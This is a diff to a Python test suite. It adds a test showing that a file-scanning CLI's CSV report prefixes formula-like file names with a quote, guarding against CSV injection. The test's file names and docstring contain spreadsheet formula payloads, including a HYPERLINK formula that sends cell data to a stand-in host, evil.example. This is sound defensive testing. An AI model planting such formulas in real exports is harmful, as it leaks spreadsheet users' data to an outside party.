@@ -5,6 +5,7 @@ if a fix regressed runs in a subprocess with a timeout."""
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import subprocess
@@ -136,6 +137,39 @@ def test_scan_empty_file_is_not_looked_up(hostile: dict[str, Any]) -> None:
 
 
 @pytest.mark.slow  # five runs of `prov`, four of them child processes
+def test_scan_csv_cells_never_start_a_formula(srv: ServerProc, tmp_path: Path) -> None:
+    """File names a spreadsheet would run as formulas (`prov scan *` in a delivered folder
+    hands them over bare) are CSV text cells: a leading ``'`` (OWASP "CSV Injection").
+    Before, the CSV's path cell was ``=HYPERLINK("http://evil.example/?"&A1,"open")``
+    itself. The JSON Lines report keeps the exact names."""
+    d = tmp_path / "delivery"
+    d.mkdir()
+    names = ['=HYPERLINK("http:__evil.example_?"&A1,"open").jpg', "+1+cmd.png", "-2.jpg"]
+    names += ["@SUM(A1).jpg", "plain.jpg"]
+    for k, name in enumerate(names):
+        (d / name).write_bytes(PNG + bytes([k]))
+    with zipfile.ZipFile(d / "a.zip", "w") as z:
+        z.writestr("=1+1.jpg", JPEG)
+    report = tmp_path / "scan.jsonl"
+    env = {**os.environ, "PROV_ADMIN_TOKEN": ADMIN_TOKEN, "PYTHONPATH": str(ROOT)}
+    run = subprocess.run(
+        [sys.executable, "-m", "clients.cli", "scan", "--report", str(report), "--server",
+         srv.address, "--workers", "0", "--", *sorted([*names, "a.zip"])],
+        capture_output=True, text=True, timeout=120, env=env, cwd=d,
+    )  # fmt: skip
+    assert run.returncode == 0, run.stderr[-2000:]
+    jsonl = {json.loads(line)["path"] for line in report.read_text().splitlines()}
+    assert jsonl == {*names, "a.zip!=1+1.jpg"}
+    with report.with_suffix(".csv").open(newline="", encoding="utf-8") as f:
+        cells = [r for r in csv.reader(f)][1:]
+    paths = {r[0] for r in cells}
+    expected = {n if n == "plain.jpg" else "'" + n for n in names}
+    assert paths == expected | {"a.zip!=1+1.jpg"}
+    for r in cells:
+        for cell in r:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), r
+
+
 def test_verify_ignores_fifo_and_dev_zero_sidecars(
     srv: ServerProc, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
